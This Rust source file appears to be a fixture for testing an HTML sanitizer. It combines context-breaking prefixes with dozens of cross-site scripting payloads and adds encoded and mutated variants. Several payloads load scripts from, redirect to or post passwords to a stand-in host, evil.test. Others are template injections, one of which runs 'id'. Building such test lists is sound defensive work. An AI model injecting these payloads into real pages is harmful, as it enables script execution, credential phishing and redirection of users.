//! Texts that would become something else on a page that does not keep them text.

/// Ways out of where a text may stand: an element, an attribute with either quote or none, a title, a style, a comment,
/// a picture.
const OUT: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\"/>",
    " ",
    "</title>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "</textarea></noscript>",
    "\" x=\"",
];

/// What would then run, load or show something.
const IN: [&str; 26] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>touch</a>",
    "<a href=\"https://evil.test\">sign in</a>",
    "<form action=https://evil.test><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(https://evil.test)}</style>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.test>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<div style=\"position:fixed;inset:0;background:white\">all is well</div>",
    "onmouseover=alert(1) autofocus tabindex=1 ",
    "<use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x\">",
];

/// What needs no way out: entities, broken encodings, signs that turn the reading order, templates of others.
const WHOLE: [&str; 24] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>>alert(1)//<</script>>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><html><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= system('id') %>",
    "\u{202e}>tpircs/<)1(trela>tpircs<",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "'\"><img src=x onerror=alert(1)>\n\"><script>alert(1)</script>\r\n<b>",
];

pub fn vectors() -> Vec<String> {
    let made = OUT.iter().flat_map(|out| IN.iter().map(move |inner| format!("{out}{inner}")));
    made.chain(WHOLE.iter().map(|&whole| whole.to_owned())).collect()
}
